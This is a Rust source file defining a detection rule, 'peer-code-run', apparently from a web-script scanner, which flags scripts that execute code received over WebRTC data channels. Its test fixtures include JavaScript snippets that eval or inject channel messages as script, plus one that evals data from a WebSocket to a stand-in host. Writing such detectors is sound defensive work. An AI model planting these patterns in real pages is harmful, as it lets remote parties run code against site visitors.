//! `peer-code-run`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "peer-code-run",
    description: "The script runs what a peer sends through WebRTC as code, where no policy of the page sees it.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::RemoteRun])],
    within: 0,
    only_if: Some(is_of_peer),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var p=new RTCPeerConnection(),d=p.createDataChannel('a');d.onmessage=e=>{eval(e.data)}",
            "var p=new RTCPeerConnection(),d=p.createDataChannel('a'),b=[];d.onmessage=e=>b.push(e.data);d.onclose=()=>{var s=document.createElement('script');s.textContent=b.join('');document.head.append(s)}",
            "p.ondatachannel=v=>{v.channel.onmessage=e=>{new Function(e.data)()}}",
        ],
        without: &[
            "var p=new RTCPeerConnection(),d=p.createDataChannel('a');d.onmessage=e=>{box.textContent=e.data}",
            "var s=new WebSocket('wss://c.example/');s.onmessage=e=>{eval(e.data)}",
        ],
    },
};

fn is_of_peer(evidence: &Evidence<'_>, held: Held) -> bool {
    Near::new(evidence, held, CHANNEL).has_word(&["createDataChannel", "ondatachannel"])
}

/// Items between a channel and what runs its messages.
const CHANNEL: usize = 150;
